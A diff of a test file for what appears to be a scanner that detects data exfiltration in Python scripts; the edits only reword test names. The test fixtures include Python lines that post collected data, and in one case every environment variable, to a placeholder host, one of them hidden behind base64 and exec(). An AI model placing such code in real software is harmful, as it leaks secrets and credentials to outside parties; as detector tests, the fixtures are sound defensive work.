@@ -50,7 +50,7 @@ const collector =
 const sender =
   "import requests\n\ndef send(what):\n    requests.post('https://x.example', json=what)\n";
 
-test("what one script collects and another sends is told where it is sent", () => {
+test("what one script collects and another sends is reported where it is sent", () => {
   const main =
     "from lib.collector import Collector\nfrom lib import sender\n\nsender.send(Collector().collect())\n";
   expect(
@@ -99,7 +99,7 @@ test.each([
   ]);
 });
 
-test("what a hidden text does is told, too", () => {
+test("what a hidden text does is reported, too", () => {
   const inner = "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))";
   const text = `import base64\nexec(base64.b64decode('${Buffer.from(inner).toString("base64")}'))`;
   expect(seenIn([{ path: "a.py", text, language: "python" }])).toEqual([
@@ -116,7 +116,7 @@ test("a text that hides itself again and again is read a few times", () => {
   expect(signalsIn(text, "python")).toEqual(["EXE-001"]);
 });
 
-test("long scripts beside a short one do not hide it", () => {
+test("long scripts next to a short one do not hide it", () => {
   const long = ["a.py", "b.py", "c.py"].map((path): Script => ({
     path,
     text: "# nothing\n".repeat(39_000),
